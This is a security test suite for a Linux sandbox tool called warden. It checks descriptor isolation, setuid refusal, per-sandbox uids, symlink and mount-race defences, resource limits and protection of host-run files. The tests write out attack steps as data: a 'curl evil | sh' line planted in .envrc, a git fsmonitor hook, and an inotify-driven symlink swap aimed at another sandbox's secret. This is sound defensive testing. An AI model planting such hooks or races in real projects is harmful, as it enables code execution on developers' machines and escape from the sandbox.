// Attacks on the sandbox's isolation from the outside review (issue 7), each with the control that
// shows it would work without warden's protection. Named-sandbox attacks (the supervisor, the
// gateway socket) are in gateway-isolation.test.ts.
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { chmodSync, chownSync, existsSync, lstatSync, mkdirSync, readFileSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, test } from 'node:test';
import {
  IS_ROOT, PROJECT_OWNER, REPO_ROOT, SKIP_NO_BWRAP, SKIP_NOT_ROOT, WARDEN, inSandbox, onHost, onHostAsProjectOwner, projectDir, tempDir,
  testEnv, waitFor, warden, writePolicy,
} from './helpers.js';

const PY = '/usr/bin/python3';
const SKIP_PY = SKIP_NO_BWRAP || (existsSync(PY) ? false : 'needs /usr/bin/python3');
const LAUNCHER = path.join(REPO_ROOT, 'dist', 'native', 'sandbox-exec');
const LIST_FDS = `${PY} -c 'import os; print(" ".join(sorted(os.listdir("/proc/self/fd"), key=int)))'`;

describe('descriptors of the caller never reach a sandbox', { skip: SKIP_PY }, () => {
  test('warden run: fds the shell left open (a directory on /, files) are closed', () => {
    const outside = bash(`exec 200</ 9</etc/hostname 7</; ${PY} -c 'import os; print(os.listdir(200)[:1] != [])'`);
    assert.equal(outside.stdout.trim(), 'True', 'control: without warden the descriptor lists the host root');
    const inside = bash(`exec 200</ 9</etc/hostname 7</; ${process.execPath} ${WARDEN} run -- ${LIST_FDS}`);
    assert.equal(inside.status, 0, inside.stderr);
    assert.equal(inside.stdout.trim(), '0 1 2 3', 'only stdio (and the listing itself) exist inside');
  });

  test('sandbox-exec alone closes everything it is not told to keep, even close-on-exec-less slots it is handed', () => {
    const script = `exec 200</ 8</etc 7</; ${LAUNCHER} --keep-fd 7 -- ${LIST_FDS}`;
    const r = bash(script);
    assert.equal(r.status, 0, r.stderr);
    assert.equal(r.stdout.trim(), '0 1 2 3 7', 'kept 7, closed 8 and 200');
    const control = bash(`exec 200</ 8</etc; ${LIST_FDS}`);
    assert.match(control.stdout, /\b8\b.*\b200\b/, 'control: the same command inherits them without the launcher');
  });

  test('the gateway, started on demand by a CLI with open descriptors, holds none of them', { skip: SKIP_NO_BWRAP }, async () => {
    const home = tempDir('warden-e2e-fd-home-');
    chmodSync(home.dir, 0o711);
    const wardenHome = path.join(home.dir, 'home');
    try {
      const started = bash(`exec 200</ 201</etc; WARDEN_HOME=${wardenHome} ${process.execPath} ${WARDEN} gateway start`);
      assert.equal(started.status, 0, started.stderr);
      const pid = Number(/pid (\d+)/.exec(started.stdout)?.[1]);
      const targets = readdirSync(`/proc/${pid}/fd`).map((fd) => {
        try {
          return readlinkOr(`/proc/${pid}/fd/${fd}`);
        } catch {
          return '';
        }
      });
      assert.ok(!targets.includes('/') && !targets.includes('/etc'), `the gateway inherited: ${targets.join(', ')}`);
    } finally {
      warden(['gateway', 'stop'], { env: { WARDEN_HOME: wardenHome } });
      home.cleanup();
    }
  });
});

/** The pids whose parent is `pid`. */
function childrenOf(pid: number): number[] {
  return readdirSync('/proc').filter((entry) => /^\d+$/.test(entry)).map(Number).filter((candidate) => {
    try {
      return Number(/^PPid:\s+(\d+)/m.exec(readFileSync(`/proc/${candidate}/status`, 'utf8'))?.[1]) === pid;
    } catch {
      return false;
    }
  });
}

function readlinkOr(file: string): string {
  return spawnSync('readlink', [file], { encoding: 'utf8' }).stdout.trim();
}

/** bash, not sh: dash cannot open descriptors above 9 (`exec 200</`), as an attacker's shell would. */
function bash(script: string): { status: number | null; stdout: string; stderr: string } {
  const r = spawnSync('bash', ['-c', script], { encoding: 'utf8', timeout: 30_000, env: testEnv() });
  return { status: r.status, stdout: r.stdout ?? '', stderr: r.stderr ?? '' };
}

describe('setuid and setgid bits cannot be set inside', { skip: SKIP_PY }, () => {
  test('chmod, fchmod, install -m and creating a file with the bits are all refused; plain modes still work', () => {
    const work = projectDir('warden-e2e-suid-');
    try {
      const script = [
        'cp /usr/bin/id /sandbox/a && chmod 4755 /sandbox/a; echo chmod=$?',
        'cp /usr/bin/id /sandbox/b && chmod g+s /sandbox/b; echo setgid=$?',
        'install -m 4755 /usr/bin/id /sandbox/c; echo install=$?',
        `${PY} -c 'import os; os.close(os.open("/sandbox/d", os.O_CREAT|os.O_WRONLY, 0o4755))' 2>/dev/null; echo create=$?`,
        `${PY} -c 'import os; fd=os.open("/sandbox/a", os.O_RDONLY); os.fchmod(fd, 0o6755)' 2>/dev/null; echo fchmod=$?`,
        'chmod 755 /sandbox/a; echo plain=$?',
        'mkdir -m 2775 /sandbox/dir 2>/dev/null; echo mkdir=$?',
      ].join('; ');
      const r = inSandbox(script, ['--workdir', work.dir]);
      assert.match(r.stdout, /chmod=1\nsetgid=1\ninstall=1\ncreate=1\nfchmod=1\nplain=0\nmkdir=1\n/, r.stderr);
      for (const name of ['a', 'b', 'c', 'd']) {
        const file = path.join(work.dir, name);
        if (existsSync(file)) assert.equal(lstatSync(file).mode & 0o6000, 0, `${name} has no set-id bit on the host`);
      }
      // Control: the host can set the bit on the same file.
      assert.equal(onHost(`chmod 4755 ${work.dir}/a && stat -c %a ${work.dir}/a`).stdout.trim(), '4755');
    } finally {
      work.cleanup();
    }
  });
});

describe('each sandbox runs as a uid of its own', { skip: SKIP_NOT_ROOT || SKIP_NO_BWRAP }, () => {
  test('two concurrent runs get different unprivileged uids from the reserved range, and neither is an account', async () => {
    // The first run stays until it is told to go, however long the second takes to start.
    const sleeper = spawn(process.execPath, [WARDEN, 'run', '--', 'sh', '-c', 'id -u; exec sleep 300'], { stdio: ['ignore', 'pipe', 'pipe'], env: testEnv() });
    const sleeperClosed = new Promise((resolve) => sleeper.once('close', resolve));
    const first = await new Promise<string>((resolve) => sleeper.stdout.once('data', (d: Buffer) => resolve(d.toString().trim())));
    const second = inSandbox('id -u').stdout.trim();
    sleeper.kill('SIGTERM');
    await sleeperClosed;
    assert.notEqual(first, second);
    for (const uid of [first, second]) {
      assert.ok(Number(uid) >= 1_800_000_000, uid);
      assert.doesNotMatch(readFileSync('/etc/passwd', 'utf8'), new RegExp(`:${uid}:`));
    }
  });

  test('bubblewrap itself runs as the sandbox uid, never as root, while it sets the sandbox up', async () => {
    const run = spawn(process.execPath, [WARDEN, 'run', '--', 'sh', '-c', 'echo up; exec sleep 300'], { stdio: ['ignore', 'pipe', 'pipe'], env: testEnv() });
    const closed = new Promise((resolve) => run.once('close', resolve));
    try {
      await new Promise((resolve) => run.stdout.once('data', resolve));
      const launched = childrenOf(run.pid!);
      assert.equal(launched.length, 1, `warden starts one launcher: ${launched.join(', ')}`);
      const ids = (field: string) => new RegExp(`^${field}:\\s+(\\d+)\\s+(\\d+)\\s+(\\d+)\\s+(\\d+)`, 'm').exec(readFileSync(`/proc/${launched[0]}/status`, 'utf8'))!.slice(1).map(Number);
      assert.match(readFileSync(`/proc/${launched[0]}/comm`, 'utf8'), /^bwrap/);
      for (const field of ['Uid', 'Gid']) {
        const [real, effective, saved, filesystem] = ids(field);
        assert.ok(real! >= 1_800_000_000, `${field} ${real}`);
        assert.deepEqual([effective, saved, filesystem], [real, real, real], `${field}: real, effective, saved and filesystem ids agree`);
      }
      assert.match(readFileSync(`/proc/${launched[0]}/status`, 'utf8'), /^Groups:\s*$/m, 'no supplementary groups (not even root\'s)');
    } finally {
      run.kill('SIGTERM');
      await closed;
    }
  });

  test('sandbox-exec --user drops to the given ids with no supplementary groups, and refuses root', () => {
    const dropped = onHost(`${LAUNCHER} --user 1800123456:1800123457 -- /bin/sh -c 'id -u; id -g; id -G; grep ^Groups: /proc/self/status'`);
    assert.equal(dropped.status, 0, dropped.stderr);
    assert.deepEqual(dropped.stdout.trim().split('\n').map((l) => l.trim()), ['1800123456', '1800123457', '1800123457', 'Groups:']);
    const control = onHost(`/bin/sh -c 'id -u; grep ^Groups: /proc/self/status'`);
    assert.match(control.stdout, /^0\n/, 'control: without --user it stays root');
    for (const refused of ['0:0', '1800123456:0', '0:1800123456', '12:x', '-1:5', ' 5:5', '+5:5', '-4294967295:5', '5:', '4294967295:5']) {
      const r = onHost(`${LAUNCHER} --user '${refused}' -- /bin/true`);
      assert.equal(r.status, 125, `--user ${refused}: ${r.stderr}`);
    }
  });

  test("a sandbox cannot read another's files even where both are visible: the uids differ", () => {
    const shared = tempDir('warden-e2e-shared-', '/var/tmp');
    try {
      // Like /tmp: every uid may create entries, none may touch another's.
      chmodSync(shared.dir, 0o1777);
      const policy = writePolicy(shared.dir, `version: 1\nfilesystem_policy:\n  include_workdir: true\n  read_only: [/usr, /lib, /lib64, /bin, /etc]\n  read_write: [/tmp, ${shared.dir}]\n`, '.policy.yaml');
      // The first sandbox keeps a private file in a directory it made, mode 0700.
      const first = inSandbox(`mkdir -m 700 ${shared.dir}/mine && echo secret > ${shared.dir}/mine/f && id -u`, ['--policy', policy]);
      assert.equal(first.status, 0, first.stderr);
      const second = inSandbox(`cat ${shared.dir}/mine/f 2>&1; id -u`, ['--policy', policy]);
      assert.match(second.stdout, /Permission denied/);
      // Control: the same uid reads it (on the host, as the uid that owns the directory).
      const owner = lstatSync(path.join(shared.dir, 'mine')).uid;
      const control = spawnSync('setpriv', [`--reuid=${owner}`, `--regid=${owner}`, '--clear-groups', 'cat', `${shared.dir}/mine/f`], { encoding: 'utf8' });
      assert.equal(control.stdout, 'secret\n');
    } finally {
      shared.cleanup();
    }
  });
});

describe('a user project as the workdir (root: idmapped, files stay the owner\'s)', { skip: SKIP_NOT_ROOT || SKIP_NO_BWRAP }, () => {
  test('no chown needed; files the sandbox makes belong to the project owner on disk, never root', () => {
    const work = projectDir('warden-e2e-proj-');
    try {
      writeFileSync(path.join(work.dir, 'existing'), 'x');
      chownSync(path.join(work.dir, 'existing'), PROJECT_OWNER.uid, PROJECT_OWNER.gid);
      const r = inSandbox('echo new > /sandbox/made && mkdir /sandbox/d && echo more >> /sandbox/existing && stat -c "%u" /sandbox/existing && id -u',
        ['--workdir', work.dir]);
      assert.equal(r.status, 0, r.stderr);
      const [shownOwner, uid] = r.stdout.trim().split('\n');
      assert.equal(shownOwner, uid, 'inside, the project is the sandbox\'s own');
      for (const name of ['made', 'd', 'existing']) {
        const stat = lstatSync(path.join(work.dir, name));
        assert.deepEqual([stat.uid, stat.gid], [PROJECT_OWNER.uid, PROJECT_OWNER.gid], `${name} on disk`);
      }
      assert.equal(lstatSync(work.dir).mode & 0o002, 0, 'the project was not opened to everyone');
    } finally {
      work.cleanup();
    }
  });

  test('a root-owned workdir is refused with the fix; warden\'s own (no --workdir) works', () => {
    const work = tempDir('warden-e2e-rootproj-');
    try {
      const r = inSandbox('touch /sandbox/x', ['--workdir', work.dir]);
      assert.equal(r.status, 125);
      assert.match(r.stderr, /owned by root, and a sandbox must never create root-owned files: .*chown -R USER:/);
      assert.equal(inSandbox('touch /sandbox/x && echo ok').stdout, 'ok\n');
    } finally {
      work.cleanup();
    }
  });
});

describe('WARDEN_HOME spelled through a symbolic link is still hidden', { skip: SKIP_NO_BWRAP }, () => {
  test('a policy that binds the real path does not show the home behind the link', () => {
    const area = tempDir('warden-e2e-link-', '/var/tmp');
    try {
      chmodSync(area.dir, 0o755);
      const real = path.join(area.dir, 'real');
      mkdirSync(path.join(real, 'home'), { recursive: true, mode: 0o755 });
      chmodSync(path.join(real, 'home'), 0o755);
      writeFileSync(path.join(real, 'home', 'state'), 'WARDEN-STATE');
      chmodSync(path.join(real, 'home', 'state'), 0o644);
      symlinkSync(real, path.join(area.dir, 'link'));
      const spelled = path.join(area.dir, 'link', 'home');
      const policy = writePolicy(area.dir, `version: 1\nfilesystem_policy:\n  read_only: [/usr, /lib, /lib64, /bin, /etc, ${real}]\n  read_write: [/tmp]\n`);
      // Control: the file is readable where the policy binds it when WARDEN_HOME is elsewhere.
      const control = inSandbox(`cat ${real}/home/state`, ['--policy', policy], { env: { WARDEN_HOME: path.join(area.dir, 'other') } });
      assert.equal(control.stdout, 'WARDEN-STATE');
      const r = inSandbox(`cat ${real}/home/state 2>&1; ls -A ${real}/home`, ['--policy', policy], { env: { WARDEN_HOME: spelled } });
      assert.doesNotMatch(r.stdout, /WARDEN-STATE/);
      assert.match(r.stdout, /Permission denied|No such file/);
    } finally {
      area.cleanup();
    }
  });
});

describe('root never follows a planted link when it creates --workdir', { skip: SKIP_NOT_ROOT || SKIP_NO_BWRAP }, () => {
  test('a link a sandbox uid planted is refused; one root made is followed', () => {
    const area = tempDir('warden-e2e-mkdir-', '/var/tmp');
    const rootOnly = tempDir('warden-e2e-rootonly-', '/var/tmp');
    try {
      chmodSync(area.dir, 0o755);
      // Only root may create entries here (others may look).
      chmodSync(rootOnly.dir, 0o755);
      const sandboxOwned = path.join(area.dir, 'sandbox-workdir');
      mkdirSync(sandboxOwned);
      chownSync(sandboxOwned, PROJECT_OWNER.uid, PROJECT_OWNER.gid);
      // What an agent can do in a directory it owns: plant a link to a root-only directory.
      assert.equal(onHostAsProjectOwner(`ln -s ${rootOnly.dir} ${sandboxOwned}/evil && echo planted`).stdout.trim(), 'planted');
      const r = inSandbox('true', ['--workdir', path.join(sandboxOwned, 'evil', 'new')]);
      assert.equal(r.status, 125);
      assert.match(r.stderr, /refusing to follow a symbolic link that neither root nor this user made at .*evil/);
      assert.equal(existsSync(path.join(rootOnly.dir, 'new')), false, 'nothing appeared in the root-only directory');
      // Control: a link root made (a system link such as /home -> /data/home) is followed.
      symlinkSync(rootOnly.dir, path.join(area.dir, 'system-link'));
      const followed = inSandbox('true', ['--workdir', path.join(area.dir, 'system-link', 'made-by-root')]);
      assert.equal(followed.status, 0, followed.stderr);
      assert.ok(existsSync(path.join(rootOnly.dir, 'made-by-root')));
    } finally {
      area.cleanup();
      rootOnly.cleanup();
    }
  });
});

describe('mounts are the objects warden checked', { skip: SKIP_NO_BWRAP }, () => {
  test('sandbox-exec refuses a pin that is now a link, or that resolves elsewhere through a moved component', () => {
    const area = tempDir('warden-e2e-pin-');
    try {
      mkdirSync(path.join(area.dir, 'real'));
      symlinkSync(path.join(area.dir, 'real'), path.join(area.dir, 'cfg'));
      const asLink = onHost(`${LAUNCHER} --pin 9 ${area.dir}/cfg -- /bin/true`);
      assert.equal(asLink.status, 125);
      assert.match(asLink.stderr, /cfg now resolves to .*real .* refusing to mount it|no longer a directory/);
      symlinkSync(area.dir, path.join(area.dir, 'up'));
      const throughLink = onHost(`${LAUNCHER} --pin 9 ${area.dir}/up/real -- /bin/true`);
      assert.equal(throughLink.status, 125);
      assert.match(throughLink.stderr, /now resolves to/);
      // Control: the canonical path is accepted and placed at the descriptor asked for.
      const ok = onHost(`${LAUNCHER} --pin 9 ${area.dir}/real -- /usr/bin/readlink /proc/self/fd/9`);
      assert.equal(ok.stdout.trim(), path.join(area.dir, 'real'), ok.stderr);
    } finally {
      area.cleanup();
    }
  });

  test('a directory swapped for a link after warden checked it is not mounted: the checked object is', { skip: SKIP_NOT_ROOT || SKIP_PY }, async () => {
    const work = projectDir('warden-e2e-race-');
    const secret = tempDir('warden-e2e-race-secret-', '/var/tmp');
    try {
      chmodSync(secret.dir, 0o755);
      writeFileSync(path.join(secret.dir, 'token'), 'OTHER-SANDBOX-SECRET');
      chmodSync(path.join(secret.dir, 'token'), 0o644);
      mkdirSync(path.join(work.dir, 'cfg'));
      const policy = writePolicy(secret.dir, 'version: 1\nfilesystem_policy:\n  include_workdir: true\n  read_only: [/usr, /lib, /lib64, /bin, /etc, /sandbox/cfg]\n  read_write: [/tmp]\n');
      // The swap lands in the window between warden's check (the mount plan) and the mount: warden
      // makes the sandbox's cgroup in between, and another process sharing the workdir can see
      // that happen (inotify on the cgroup directory) and swap cfg for a link at that moment.
      const watched = pidsCgroupParent();
      mkdirSync(watched, { recursive: true });
      const name = `race-${process.pid}`;
      const swapper = spawn(PY, ['-c', SWAP_ON_CGROUP, watched, path.join(work.dir, 'cfg'), secret.dir, name], { stdio: ['ignore', 'pipe', 'pipe'] });
      let said = '';
      const swapperDone = new Promise<void>((resolve) => swapper.on('close', () => resolve()));
      await new Promise<void>((resolve) => swapper.stdout.on('data', (d: Buffer) => {
        said += d;
        if (said.includes('ready')) resolve();
      }));
      const r = await new Promise<{ status: number | null; stdout: string; stderr: string }>((resolve) => {
        const child = spawn(process.execPath, [WARDEN, 'run', '--name', name, '--policy', policy, '--workdir', work.dir, '--', 'sh', '-c', 'cat /sandbox/cfg/token'], { stdio: ['ignore', 'pipe', 'pipe'], env: testEnv() });
        let stdout = '';
        let stderr = '';
        child.stdout.on('data', (d: Buffer) => { stdout += d; });
        child.stderr.on('data', (d: Buffer) => { stderr += d; });
        child.on('close', (status) => resolve({ status, stdout, stderr }));
      });
      await swapperDone;
      assert.match(said, /swapped/, 'the swap happened inside the window');
      assert.doesNotMatch(r.stdout, /OTHER-SANDBOX-SECRET/);
      // Where the swap lands decides who notices: sandbox-exec's re-check of the pin (125, naming
      // cfg), or, when it lands after that check, bubblewrap failing to mount the pinned object
      // (the moved directory, never the link). Either way nothing runs with the other tree mounted.
      assert.notEqual(r.status, 0, r.stderr);
      assert.match(r.stderr, /cfg (now resolves to|is no longer a directory)|Can't bind mount \S*cfg\.moved on \S*\/sandbox\/cfg/);
    } finally {
      work.cleanup();
      secret.cleanup();
    }
  });
});

/**
 * Waits for the cgroup of sandbox argv[4] to appear below argv[1] (other tests' sandboxes may come
 * and go meanwhile), then replaces directory argv[2] with a link to argv[3].
 */
const SWAP_ON_CGROUP = `
import ctypes, os, select, struct, sys, time
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.inotify_init1(0)
libc.inotify_add_watch(fd, sys.argv[1].encode(), 0x100)
print("ready", flush=True)
deadline = time.time() + 30
while time.time() < deadline:
    if not select.select([fd], [], [], 1)[0]:
        continue
    data = os.read(fd, 4096)
    names, at = [], 0
    while at < len(data):
        length = struct.unpack_from("iIII", data, at)[3]
        names.append(data[at + 16:at + 16 + length].split(b"\\0")[0].decode())
        at += 16 + length
    if any(name.startswith(sys.argv[4] + "-") or name.startswith("warden-" + sys.argv[4] + "-") for name in names):
        os.rename(sys.argv[2], sys.argv[2] + ".moved")
        os.symlink(sys.argv[3], sys.argv[2])
        print("swapped", flush=True)
        break
`;

/** Where warden makes sandbox cgroups for the pids controller, below this process's own cgroup. */
function pidsCgroupParent(): string {
  const lines = readFileSync('/proc/self/cgroup', 'utf8').split('\n');
  const v1 = lines.find((line) => line.split(':')[1]?.split(',').includes('pids'));
  if (v1 !== undefined && existsSync('/sys/fs/cgroup/pids')) {
    const own = v1.split(':')[2]!;
    return path.join('/sys/fs/cgroup/pids', own === '/' ? '' : own, 'warden');
  }
  return '/sys/fs/cgroup/warden';
}

describe('resources are bounded', { skip: SKIP_NOT_ROOT || SKIP_NO_BWRAP }, () => {
  test('memory: a sandbox over --memory is killed; the same allocation passes under the default', { skip: SKIP_PY }, () => {
    const allocate = `${PY} -c 'b = bytearray(256 * 1024 * 1024); b[::4096] = b"x" * len(b[::4096]); print("allocated")'`;
    assert.equal(inSandbox(allocate).stdout, 'allocated\n', 'control: 256 MiB fits the default limit');
    const r = inSandbox(allocate, ['--memory', '64M']);
    assert.notEqual(r.status, 0);
    assert.doesNotMatch(r.stdout, /allocated/);
  });

  test('processes: --pids bounds the sandbox', () => {
    // The sleeps hold the sandbox's pids until the loop fails to fork (which ends its shell); that
    // shell then kills them on its way out. Nothing in the sandbox forks after the failure (so the
    // stderr is read here, not by a grep inside).
    const r = inSandbox(`( trap 'kill $pids' EXIT; for i in $(seq 40); do sleep 300 & pids="$pids $!"; done ); echo loop=$?`, ['--pids', '16']);
    assert.match(r.stderr, /fork|Resource temporarily/, `forks were refused: ${r.stdout}${r.stderr}`);
    assert.match(r.stdout, /^loop=[1-9]\d*$/m, 'the loop did not get through its 40 forks');
    const control = inSandbox('for i in $(seq 40); do true & done; wait; echo ok');
    assert.equal(control.stdout, 'ok\n');
  });

  test('the limits are written where the sandbox\'s processes are (memory, pids, cpu)', async () => {
    // A sleep long enough to outlast the test (it is ended below), named uniquely for pgrep.
    const marker = `${300 + (process.pid % 1000) / 1000}`;
    const child = spawn(process.execPath, [WARDEN, 'run', '--memory', '300M', '--cpus', '0.5', '--pids', '77', '--', 'sh', '-c', `echo started; exec sleep ${marker}`],
      { stdio: ['ignore', 'pipe', 'pipe'], env: testEnv() });
    const childClosed = new Promise((resolve) => child.once('close', resolve));
    try {
      await new Promise<void>((resolve) => child.stdout.once('data', () => resolve()));
      // The sleep inside the sandbox, as a host pid (its command line is exactly this, once the
      // shell that printed "started" has exec'd it).
      const sleeper = () => spawnSync('pgrep', ['-x', '-f', `sleep ${marker}`], { encoding: 'utf8' }).stdout.trim().split('\n').find(Boolean);
      await waitFor(() => sleeper() !== undefined, 'the sandboxed sleep to run');
      const pid = sleeper()!;
      const cgroups = readFileSync(`/proc/${pid}/cgroup`, 'utf8');
      const value = (controller: string, file: string) => {
        const line = cgroups.split('\n').find((l) => l.split(':')[1]?.split(',').includes(controller));
        const v2 = cgroups.split('\n').find((l) => l.startsWith('0::'));
        const where = line ? path.join('/sys/fs/cgroup', controller, line.split(':')[2]!) : path.join('/sys/fs/cgroup', v2!.slice(3));
        return readFileSync(path.join(where, file), 'utf8').trim();
      };
      if (cgroups.includes(':memory:')) {
        assert.equal(value('memory', 'memory.limit_in_bytes'), String(300 * 1024 * 1024));
        assert.equal(value('pids', 'pids.max'), '77');
        assert.equal(value('cpu', 'cpu.cfs_quota_us'), '50000');
      } else {
        assert.equal(value('memory', 'memory.max'), String(300 * 1024 * 1024));
        assert.equal(value('pids', 'pids.max'), '77');
        assert.equal(value('cpu', 'cpu.max'), '50000 100000');
      }
    } finally {
      child.kill('SIGTERM');
      await childClosed;
    }
  });

  test('/tmp and /dev/shm are bounded in-memory filesystems; /dev is read-only', () => {
    const area = tempDir('warden-e2e-tmp-');
    try {
      const policy = writePolicy(area.dir, 'version: 1\nlimits:\n  tmp_size: 8M\n');
      const r = inSandbox('head -c 20M /dev/zero 2>&1 > /tmp/big; echo tmp=$?; touch /dev/evil 2>&1; echo dev=$?; df -k /dev/shm | tail -1',
        ['--policy', policy]);
      assert.match(r.stdout, /No space left on device\ntmp=1\n/);
      assert.match(r.stdout, /Read-only file system\ndev=1\n/);
      assert.match(r.stdout, /^tmpfs\s+262144\s/m, '/dev/shm is 256 MiB');
    } finally {
      area.cleanup();
    }
  });
});

describe('files the host runs later stay read-only in the workdir', { skip: SKIP_NO_BWRAP }, () => {
  test('.git/hooks, .git/config, .vscode, .mcp.json, .envrc cannot be planted or changed; other files can', () => {
    const work = projectDir('warden-e2e-hostfiles-');
    try {
      assert.equal(spawnSync('git', ['init', '-q', work.dir]).status, 0);
      if (IS_ROOT) spawnSync('chown', ['-R', `${PROJECT_OWNER.uid}:${PROJECT_OWNER.gid}`, work.dir]);
      const config = readFileSync(path.join(work.dir, '.git', 'config'), 'utf8');
      const script = [
        'echo "#!/bin/sh" > /sandbox/.git/hooks/post-checkout; echo hook=$?',
        'printf "[core]\\n\\tfsmonitor = touch /tmp/pwned\\n" >> /sandbox/.git/config; echo config=$?',
        'mkdir -p /sandbox/.vscode && echo "{}" > /sandbox/.vscode/tasks.json; echo vscode=$?',
        'echo "{}" > /sandbox/.mcp.json; echo mcp=$?',
        'echo "curl evil | sh" > /sandbox/.envrc; echo envrc=$?',
        'echo fine > /sandbox/src.txt; echo other=$?',
      ].join('; ');
      const r = inSandbox(`${script} 2>/dev/null`, ['--workdir', work.dir]);
      assert.match(r.stdout, /^hook=[1-9]\nconfig=[1-9]\nvscode=[1-9]\nmcp=[1-9]\nenvrc=[1-9]\nother=0\n$/, r.stderr);
      assert.equal(readFileSync(path.join(work.dir, '.git', 'config'), 'utf8'), config);
      assert.equal(existsSync(path.join(work.dir, '.git', 'hooks', 'post-checkout')), false);
      // The empty mount points made for missing files are gone again.
      for (const name of ['.vscode', '.mcp.json', '.envrc', '.claude']) assert.equal(existsSync(path.join(work.dir, name)), false, name);
      assert.equal(readFileSync(path.join(work.dir, 'src.txt'), 'utf8'), 'fine\n');
      // Control: the same writes succeed on the host as the project's owner.
      assert.equal(onHostAsProjectOwner(`echo x > ${work.dir}/.envrc && echo '#!' > ${work.dir}/.git/hooks/post-checkout && echo ok`).stdout.trim(), 'ok');
    } finally {
      work.cleanup();
    }
  });

  test('the policy can make one writable, with a warning', () => {
    const work = projectDir('warden-e2e-hostfiles-');
    try {
      const policy = writePolicy(work.dir, 'version: 1\nworkdir_files:\n  writable: [.vscode]\n', '.policy.yaml');
      const r = inSandbox('mkdir /sandbox/.vscode && echo "{}" > /sandbox/.vscode/settings.json && echo vscode=ok; echo x > /sandbox/.envrc 2>/dev/null || echo envrc=refused',
        ['--policy', policy, '--workdir', work.dir]);
      assert.equal(r.stdout, 'vscode=ok\nenvrc=refused\n', r.stderr);
      assert.match(r.stderr, /\.vscode\/ in the workdir is writable inside the sandbox \(workdir_files.writable\)/);
    } finally {
      work.cleanup();
    }
  });

  test('a protected name that is a link is refused, since the link itself could be replaced', () => {
    const work = projectDir('warden-e2e-hostfiles-');
    try {
      symlinkSync('/etc', path.join(work.dir, '.vscode'));
      const r = inSandbox('true', ['--workdir', work.dir]);
      assert.equal(r.status, 125);
      assert.match(r.stderr, /\.vscode in the workdir is a symbolic link/);
    } finally {
      rmSync(path.join(work.dir, '.vscode'), { force: true });
      work.cleanup();
    }
  });
});
